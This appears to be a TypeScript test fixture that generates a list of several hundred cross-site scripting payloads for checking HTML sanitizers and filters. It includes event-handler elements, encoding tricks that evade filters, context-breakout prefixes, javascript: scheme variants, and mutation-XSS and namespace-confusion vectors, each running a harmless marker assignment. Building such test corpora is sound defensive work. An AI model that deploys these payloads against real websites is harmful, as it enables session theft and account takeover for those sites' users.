// What people may write who mean harm: more than 300 texts that run a script, or make markup, wherever one of them is taken for more than text.

/** What a script that ran leaves behind. */
export const RUN = 'top.ran=1';
/** The mark of every element of a payload. */
export const M = 'data-xss';

/** Some that fit into the shortest of fields. */
export const short = [
  `<img src=x ${M} onerror=${RUN}>`,
  `"><svg ${M} onload=${RUN}>`,
  `'><b ${M} onclick=${RUN}>`,
  `<script ${M}>${RUN}</script>`,
  `</title><i ${M}>`,
  `{{constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `\${${RUN}}`,
];

// An element that acts by itself, or as soon as it is touched; `%` is what it does.
const ACTING = [
  'img src=x onerror=%',
  'svg onload=%',
  'body onload=%',
  'iframe src=about:blank onload=%',
  'object data=x onerror=%',
  'embed src=x onerror=%',
  'link rel=stylesheet href=x onerror=%',
  'script src=x onerror=%',
  'video src=x onerror=%',
  'audio src=x onerror=%',
  'video autoplay onloadstart=% src=x',
  'input autofocus onfocus=%',
  'select autofocus onfocus=%',
  'textarea autofocus onfocus=%',
  'button autofocus onfocus=%',
  'details open ontoggle=%',
  'marquee onstart=%',
  'x tabindex=1 autofocus onfocus=%',
  'p style=animation:a onanimationstart=%',
  'div onpointerenter=%',
  'a href=# onclick=%',
  'style onload=%',
  'svg><animate attributeName=x dur=1s onbegin=%',
  'math><mi onclick=%',
];
// The ways to write it that filters are known to stumble over.
const FORMS: ((element: string) => string)[] = [
  (element) => `<${element.replace('%', RUN)} ${M}>`,
  (element) => `<${element.toUpperCase().replace('%', `"${RUN}"`)} ${M}>`,
  (element) => `<${element.replaceAll(' ', '/').replace('%', RUN)}/${M}>`,
  (element) => `<${element.replaceAll(' ', '\n').replace('%', `'${RUN}'`)}\t${M} `,
  (element) => `<${element.replace('%', '&#116;op.ran&equals;1')} ${M}>`,
];
// What the text may stand in, and has to be left first.
const LEAVES = [
  '">',
  `'>`,
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</xmp>',
  '</svg>',
  '--!>',
  ']]>',
  '`>',
];
const LEFT = [
  `<img ${M} src=x onerror=${RUN}>`,
  `<svg ${M} onload=${RUN}>`,
  `<script ${M}>${RUN}</script>`,
  `<iframe ${M} srcdoc="<script>${RUN}</script>">`,
];
// Names of the scheme that browsers read as it, and what carries an address.
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#1;javascript:',
  '&#106;avascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,<script>',
  'view-source:javascript:',
  'javascript://%0a',
];
const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a ${M} href="${address}">按</a>`,
  (address) => `<form ${M} action="${address}"><button>按</button></form>`,
  (address) => `<button ${M} formaction="${address}">按</button>`,
  (address) => `<iframe ${M} src="${address}"></iframe>`,
  (address) => `<object ${M} data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}" ${M}><text y=9>按</text></a></svg>`,
  (address) => `<meta ${M} http-equiv=refresh content="0;url=${address}">`,
];
// Text that becomes other markup when it is read a second time, or in another name space.
const TURNING = [
  `<svg><script ${M}>${RUN}</script></svg>`,
  `<svg><set ${M} attributeName=href to=javascript:${RUN}>`,
  `<svg><foreignObject><iframe ${M} srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><style><img ${M} src=x onerror=${RUN}></style></svg>`,
  `<svg><title><style><img ${M} src=x onerror=${RUN}></style></title></svg>`,
  `<svg></p><style><a id="</style><img ${M} src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img ${M} src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img ${M} src onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}" ${M}>x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img ${M} src onerror=${RUN}>`,
  `<form id=a><input name=attributes><input name=innerHTML></form><img ${M} src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img ${M} src=x onerror=${RUN}>">`,
  `<template ${M}><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img ${M} src=x onerror=${RUN}></template>`,
  `<style ${M}>@keyframes a{}b{animation:a}</style><b ${M} onanimationstart=${RUN} style="animation:a 1s">x</b>`,
  `<div ${M} style="background:url(javascript:${RUN})">x</div>`,
  `<table ${M} background="javascript:${RUN}"><tr><td>x`,
  `<base ${M} href="javascript:/">`,
  `<a id=top ${M}></a><a id=top name=ran href=1></a>`,
  `<img name=getElementById ${M} src=x>`,
  `<<img ${M} src=x onerror=${RUN}>>`,
  `<IMG ${M} """><SCRIPT>${RUN}</SCRIPT>">`,
  `<scr<script>ipt ${M}>${RUN}</script>`,
  `<!--><img ${M} src=x onerror=${RUN}>-->`,
  `<!-- --!><img ${M} src=x onerror=${RUN}>-->`,
  `<![CDATA[><img ${M} src=x onerror=${RUN}>]]>`,
  `<dialog ${M} open onclose=${RUN}><form method=dialog><button>按`,
  `--><!-- ---> <img ${M} src=x onerror=${RUN}>`,
  `\u202e<img ${M} src=x onerror=${RUN}>`,
  `＜img ${M} src=x onerror=${RUN}＞`,
  `%3Cimg ${M} src=x onerror=${RUN}%3E`,
  `&lt;img ${M} src=x onerror=${RUN}&gt;`,
  `\\u003cimg ${M} src=x onerror=${RUN}\\u003e`,
  `[按](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{{${RUN}}}`,
  `__proto__[onload]=${RUN}`,
];

export const payloads: readonly string[] = [
  ...new Set([
    ...short,
    ...ACTING.flatMap((element) => FORMS.map((form) => form(element))),
    ...LEAVES.flatMap((leave) => LEFT.map((element) => leave + element)),
    ...SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier(scheme + RUN))),
    ...TURNING,
  ]),
];
